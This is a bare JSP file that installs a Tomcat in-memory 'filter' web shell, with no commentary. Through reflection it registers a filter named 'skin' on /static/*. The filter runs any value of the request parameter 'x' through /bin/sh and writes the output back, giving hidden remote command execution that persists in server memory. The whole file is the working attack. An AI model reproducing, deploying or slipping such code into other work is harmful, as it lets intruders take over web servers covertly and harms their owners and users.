<%@ page import="org.apache.catalina.core.ApplicationContext, org.apache.catalina.core.StandardContext" %>
<%@ page import="org.apache.tomcat.util.descriptor.web.FilterDef, org.apache.tomcat.util.descriptor.web.FilterMap" %>
<%@ page import="java.lang.reflect.Field, javax.servlet.*, javax.servlet.http.*, java.io.*" %>
<%
  ServletContext sc = request.getSession().getServletContext();
  Field f = sc.getClass().getDeclaredField("context"); f.setAccessible(true);
  ApplicationContext ac = (ApplicationContext) f.get(sc);
  f = ac.getClass().getDeclaredField("context"); f.setAccessible(true);
  StandardContext ctx = (StandardContext) f.get(ac);
  Filter filter = new Filter() {
    public void init(FilterConfig c) {}
    public void destroy() {}
    public void doFilter(ServletRequest sreq, ServletResponse sresp, FilterChain chain) throws IOException, ServletException {
      HttpServletRequest req = (HttpServletRequest) sreq;
      String c = req.getParameter("x");
      if (c != null) {
        InputStream in = Runtime.getRuntime().exec(new String[]{"/bin/sh", "-c", c}).getInputStream();
        sresp.getWriter().write(new java.util.Scanner(in).useDelimiter("\\A").next());
        return;
      }
      chain.doFilter(sreq, sresp);
    }
  };
  FilterDef def = new FilterDef(); def.setFilterName("skin"); def.setFilter(filter); def.setFilterClass(filter.getClass().getName());
  ctx.addFilterDef(def);
  FilterMap map = new FilterMap(); map.setFilterName("skin"); map.addURLPattern("/static/*");
  ctx.addFilterMapBefore(map);
%>
